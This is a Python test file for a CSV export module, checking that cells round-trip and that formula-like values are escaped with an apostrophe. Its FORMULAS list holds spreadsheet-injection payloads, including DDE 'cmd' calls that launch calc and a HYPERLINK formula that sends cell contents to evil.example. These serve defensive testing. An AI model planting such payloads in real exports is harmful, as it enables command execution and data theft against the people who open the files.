"""CSV comes back as it went out, and no cell of it is a formula."""

import csv
from io import StringIO

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.transfer.support.records import issue, issues, whole
from unknot.transfer.csv import BYTE_ORDER_MARK, COLUMNS, CSV, csv_format
from unknot.transfer.record import Exported, Person

# What OWASP names, and what spreadsheets of East Asia add to it.
FORMULAS = [
    "=1+1",
    "+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    '=HYPERLINK("https://evil.example?x="&A1,"Error")',
    "=cmd|' /C calc'!A0",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
]
SIGNS = tuple("=+-@＝＋－＠")


def rows(document: bytes, separator: str = ",") -> list[dict[str, str]]:
    return list(csv.DictReader(StringIO(document.decode(), newline=""), delimiter=separator))


def as_typed(cell: str) -> str:
    return cell.removeprefix("'")


@given(st.lists(issues, max_size=3), st.sampled_from(",;"))
def test_every_cell_comes_back(every: list[Exported], separator: str) -> None:
    found = rows(whole(csv_format(separator), *every), separator)

    assert [{name: as_typed(cell) for name, cell in row.items()} for row in found] == [
        {name: str(cell(one)) for name, cell in COLUMNS.items()} for one in every
    ]


@given(issues)
def test_no_cell_begins_as_a_formula_does(one: Exported) -> None:
    [row] = rows(whole(CSV, one))

    assert [cell for cell in row.values() if cell.strip("\u200b\ufeff \t\r\n\xa0").startswith(SIGNS)] == []


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_taken_for_text(text: str) -> None:
    risky = issue(title=text, labels=(text,), created_by=Person(text, text), description=text)

    [row] = rows(whole(CSV, risky))

    assert row["title"] == row["created_by"] == row["description"] == f"'{text}"
    assert row["labels"][0] in {"'", '"'}


def test_an_apostrophe_of_ones_own_stays() -> None:
    [row] = rows(whole(CSV, issue(title="'tis slow")))

    assert as_typed(row["title"]) == "'tis slow"


@given(st.lists(st.text(min_size=1), max_size=4))
def test_several_values_in_a_cell_can_be_told_apart(labels: list[str]) -> None:
    [row] = rows(whole(CSV, issue(labels=tuple(labels))))

    assert next(csv.reader(StringIO(as_typed(row["labels"]), newline="")), []) == labels


def test_lines_end_as_the_standard_has_it_and_quotes_are_doubled() -> None:
    head, row = whole(CSV, issue(title='He said "no", twice')).decode().split("\r\n")[:2]

    assert head.startswith("key,title,status,level,")
    assert row.startswith('WEB-1,"He said ""no"", twice",open,,')


def test_spreadsheets_get_a_mark_and_the_separator_of_their_country() -> None:
    document = whole(csv_format(";", mark=BYTE_ORDER_MARK), issue())

    assert document.startswith("\ufeffkey;title;status;".encode())
    assert not whole(CSV).startswith("\ufeff".encode())
